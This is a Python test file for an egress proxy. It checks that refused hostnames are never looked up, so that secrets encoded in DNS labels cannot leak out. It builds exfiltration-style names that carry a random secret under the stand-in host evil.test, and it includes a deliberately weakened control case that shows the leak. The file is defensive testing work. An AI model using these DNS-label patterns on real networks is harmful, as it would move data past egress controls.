"""B04: a name that is not allowed is never looked up, so its labels carry nothing out."""

from __future__ import annotations

import uuid

import pytest
from tests.attacks.egress import weak
from tests.attacks.egress.clients import ALLOWED, away, plain_get, proxy, status, tls_get
from tests.attacks.egress.lab import Lab, in_lab

HOSTS = ["{}.evil.test", "{}.allowed.lab.test", "{}allowed.lab.test", "{}.evil.test.", "evil.test/{}"]


@pytest.mark.parametrize("host", HOSTS)
@in_lab
async def test_the_labels_of_a_refused_name_reach_no_resolver(lab: Lab, host: str) -> None:
    secret = uuid.uuid4().hex
    async with proxy() as running:
        assert (await away(tls_get, running.port, lab.ca, host.format(secret))).startswith(b"403")
        assert status(await away(plain_get, running.port, host.format(secret))) == 403
        assert b"200" in (await away(plain_get, running.port))[:20]
    assert ALLOWED in lab.queries()
    assert not [name for name in lab.queries() if secret in name]


@in_lab
async def test_control_where_it_resolves_before_it_judges_they_do(lab: Lab) -> None:
    secret = uuid.uuid4().hex
    weak.resolves_before_it_judges()
    async with proxy() as running:
        assert (await away(tls_get, running.port, lab.ca, f"{secret}.evil.test")).startswith(b"403")
    assert [name for name in lab.queries() if secret in name]


@in_lab
async def test_an_allowed_name_is_looked_up_as_it_is_written_in_the_rules(lab: Lab) -> None:
    """The case of letters would be a channel too."""
    async with proxy() as running:
        assert status(await away(plain_get, running.port, "aLLoWeD.lAb.TeSt")) == 200
    lines = (lab.directory / "dns.log").read_text()
    assert "aLLoWeD" not in lines
